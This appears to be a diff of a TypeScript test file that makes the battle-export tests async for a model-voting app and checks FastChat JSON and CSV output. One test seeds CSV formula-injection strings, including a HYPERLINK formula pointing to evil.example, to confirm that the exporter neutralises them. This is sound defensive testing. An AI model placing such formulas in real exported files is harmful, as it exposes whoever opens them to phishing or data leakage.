@@ -6,31 +6,38 @@ import { parseImport } from "@/lib/import/parse";
 import { seededRng, seedPrompts, testDb } from "@/tests/helpers/db";
 import { exportBattles, judgePseudonym } from "./battles";
 
-function votedDb(n: number) {
-  const db = testDb();
-  seedPrompts(db, 8, ["m1", "m2", "m3"], {
+/** The whole export, as one text. */
+async function collect(chunks: AsyncIterable<string>): Promise<string> {
+  let out = "";
+  for await (const chunk of chunks) out += chunk;
+  return out;
+}
+
+async function votedDb(n: number) {
+  const db = await testDb();
+  await seedPrompts(db, 8, ["m1", "m2", "m3"], {
     text: (i) => `Solve ${i} + ${i} = x, "quoted", with, commas`,
   });
   const rng = seededRng(5);
   for (let i = 0; i < n; i++) {
     const voterId = `voter-${i % 2}-aaaaaaaaaaaaaaaa`;
-    const { id } = createBattle(db, voterId, { rng });
-    castVote(db, {
+    const { id } = await createBattle(db, voterId, { rng });
+    await castVote(db, {
       battleId: id,
       voterId,
       winner: (["a", "b", "tie", "bothbad"] as const)[i % 4] ?? "a",
       ttlMs: 3_600_000,
     });
   }
-  createBattle(db, "voter-unvoted-aaaaaaaaaaaa", { rng });
+  await createBattle(db, "voter-unvoted-aaaaaaaaaaaa", { rng });
   return db;
 }
 
 describe("exportBattles", () => {
-  it("writes FastChat clean_battle records for every voted battle, excluded ones marked", () => {
-    const db = votedDb(2500);
-    setVoterExcluded(db, "voter-1-aaaaaaaaaaaaaaaa", true);
-    const records = JSON.parse([...exportBattles(db, "fastchat")].join(""));
+  it("writes FastChat clean_battle records for every voted battle, excluded ones marked", async () => {
+    const db = await votedDb(2500);
+    await setVoterExcluded(db, "voter-1-aaaaaaaaaaaaaaaa", true);
+    const records = JSON.parse(await collect(exportBattles(db, "fastchat")));
     expect(records).toHaveLength(2500);
     const r = records[0];
     expect(Object.keys(r)).toEqual(
@@ -68,9 +75,9 @@ describe("exportBattles", () => {
     expect([...times].sort((a, b) => a - b)).toEqual(times);
   });
 
-  it("writes CSV with quoting that survives commas, quotes and newlines", () => {
-    const db = votedDb(5);
-    const csv = [...exportBattles(db, "csv")].join("");
+  it("writes CSV with quoting that survives commas, quotes and newlines", async () => {
+    const db = await votedDb(5);
+    const csv = await collect(exportBattles(db, "csv"));
     const lines = csv.trimEnd().split("\r\n");
     expect(lines[0]).toBe(
       "question_id,tstamp,model_a,model_b,winner,judge,language,categories,identity_leak,excluded,prompt,response_a,response_b",
@@ -80,22 +87,22 @@ describe("exportBattles", () => {
   });
 
   it("neutralises formula-like text cells in the CSV, and the import reads them back as written", async () => {
-    const db = testDb();
+    const db = await testDb();
     const hostile = ['=HYPERLINK("http://evil.example/?x","click")', "-1+2", "@SUM(1+1)"];
-    seedPrompts(db, 3, hostile, {
+    await seedPrompts(db, 3, hostile, {
       text: (i) => ["+ a list item first", "=1+1 is the question", "- bullets\n- more"][i] ?? "",
     });
     const rng = seededRng(2);
     for (let i = 0; i < 6; i++) {
-      const { id } = createBattle(db, "voter-csv-aaaaaaaaaaaaaaaa", { rng });
-      castVote(db, {
+      const { id } = await createBattle(db, "voter-csv-aaaaaaaaaaaaaaaa", { rng });
+      await castVote(db, {
         battleId: id,
         voterId: "voter-csv-aaaaaaaaaaaaaaaa",
         winner: "a",
         ttlMs: 3_600_000,
       });
     }
-    const csv = [...exportBattles(db, "csv")].join("");
+    const csv = await collect(exportBattles(db, "csv"));
     const scanner = new CsvScanner();
     scanner.push(csv);
     const cells: string[] = [];
